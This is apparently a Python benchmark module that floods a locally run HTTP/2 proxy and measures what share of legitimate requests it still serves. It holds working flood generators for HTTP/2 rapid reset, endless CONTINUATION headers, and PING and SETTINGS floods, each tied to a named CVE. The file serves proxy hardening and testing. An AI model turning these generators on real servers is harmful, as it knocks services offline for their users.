"""`bench http2-floods`: what legitimate clients are left with while others flood the proxy with frames of HTTP/2.

Each flood comes from 20 connections of eight addresses, which send as fast as they are read and come back 0.25 s after
they were thrown out; beside it ten clients ask for an object four times a second, each on a connection of its own.

- rapid reset (CVE-2023-44487): requests that are reset at once
- CONTINUATION (CVE-2024-27316): a header block that never ends
- PING and SETTINGS (CVE-2019-9512, 9515): frames that have to be answered, and nobody reads the answers
"""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from bench import configs
from bench.client import client_context
from bench.flood_clients import LEGITIMATE_ADDRESS, PERIOD, Outcome
from bench.floods import LEGITIMATE, STRANGERS_ADDRESSES
from bench.http2_client import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    frame,
    get_block,
)
from bench.lab import Lab
from bench.report import Section, limit
from bench.stats import percentile
from bench.subjects import Mcproxy

CONNECTIONS = 20
PAUSE = 0.25
"""Seconds from the end of a connection of the flood to its next."""
_BATCH = 200  # frames, or pairs of them, in one write
_LAST_STREAM = 1 << 30


@dataclass(slots=True)
class Flooded:
    """What a flood got: connections that it began, and frames that it could send."""

    connections: int = 0
    frames: int = 0


@dataclass(frozen=True, slots=True)
class Flood:
    """`batches` gives what one connection sends, `frames` of them at a time; at its end the connection is left."""

    name: str
    batches: Callable[[], Iterator[bytes]]
    frames: int = _BATCH


def _rapid_reset() -> Iterator[bytes]:
    block, cancel = get_block(configs.OBJECT_PATH), (8).to_bytes(4, "big")
    for first in range(1, _LAST_STREAM, 2 * _BATCH):
        yield b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
            for stream in range(first, first + 2 * _BATCH, 2)
        )


def _continuation() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, get_block(configs.OBJECT_PATH))
    more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 10) * _BATCH
    while True:
        yield more


def _pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * _BATCH


def _settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00") * _BATCH


FLOODS = (
    Flood("rapid reset", _rapid_reset, 2 * _BATCH),
    Flood("CONTINUATION", _continuation),
    Flood("PING", _pings),
    Flood("SETTINGS", _settings),
)


def measure(lab: Lab, seconds: float) -> Section:
    """Measure each flood for `seconds` without and as long with it."""
    section = Section(
        "Floods over HTTP/2: what legitimate clients get",
        [
            *("flood", "share without", "share with", "p50 ms without", "with", "p99 ms without", "with"),
            *("the flood's connections a second", "frames written a second"),
        ],
    )
    upstream = lab.start_nginx_upstream(http2=True)
    context = client_context(lab)
    context.set_alpn_protocols(["h2"])
    for flood in FLOODS:
        running = lab.start_subject(Mcproxy(), upstream)
        calm, flooded, got = asyncio.run(_run(flood, running.port, context, seconds))
        if running.process is not None:
            running.process.check()
            lab.processes.stop(running.process)
        section.rows.append(_row(flood.name, calm, flooded, got, seconds))
        what = f"{flood.name}: share of legitimate requests served"
        section.targets.append(limit(what, [flooded.share], digits=4, at_least=1.0))
    return section


def _row(name: str, calm: Outcome, flooded: Outcome, got: Flooded, seconds: float) -> list[str]:
    times = [
        f"{percentile(each.seconds, part) * 1e3:.0f}" if each.seconds else "-"
        for part in (0.5, 0.99)
        for each in (calm, flooded)
    ]
    rates = [f"{count / seconds:,.0f}" for count in (got.connections, got.frames)]
    return [name, f"{calm.share:.4f}", f"{flooded.share:.4f}", *times, *rates]


async def _run(flood: Flood, port: int, context: ssl.SSLContext, seconds: float) -> tuple[Outcome, Outcome, Flooded]:
    calm = await _legitimate(port, context, seconds)
    got = Flooded()
    attackers = [
        Connection(port, context, f"127.0.0.{2 + number % STRANGERS_ADDRESSES}") for number in range(CONNECTIONS)
    ]
    tasks = [asyncio.create_task(_flood(flood, attacker, got)) for attacker in attackers]
    flooded = await _legitimate(port, context, seconds)
    for task in tasks:
        task.cancel()
    for ended in await asyncio.gather(*tasks, return_exceptions=True):
        if not isinstance(ended, asyncio.CancelledError):
            raise RuntimeError("a client of the flood has ended") from ended
    return calm, flooded, got


async def _legitimate(port: int, context: ssl.SSLContext, seconds: float) -> Outcome:
    outcome = Outcome()
    until = asyncio.get_running_loop().time() + seconds
    await asyncio.gather(*(_ask_regularly(port, context, outcome, until) for _ in range(LEGITIMATE)))
    return outcome


async def _ask_regularly(port: int, context: ssl.SSLContext, outcome: Outcome, until: float) -> None:
    loop = asyncio.get_running_loop()
    connection = Connection(port, context, LEGITIMATE_ADDRESS)
    while (began := loop.time()) < until:
        good = await connection.ask(configs.OBJECT_PATH)
        outcome.statuses[200 if good else 0] += 1
        if good:
            outcome.seconds.append(loop.time() - began)
        await asyncio.sleep(max(0.0, began + PERIOD - loop.time()))
    connection.close()


async def _flood(flood: Flood, connection: Connection, got: Flooded) -> None:
    """Flood until cancelled, over one connection after the other."""
    try:
        while True:
            writer = await connection.open()
            got.connections += 1
            try:
                for batch in flood.batches() if writer is not None else ():
                    assert writer is not None
                    writer.write(batch)
                    await writer.drain()
                    await asyncio.sleep(0)
                    got.frames += flood.frames
            except OSError:
                pass
            connection.close()
            await asyncio.sleep(PAUSE)
    finally:
        connection.close()
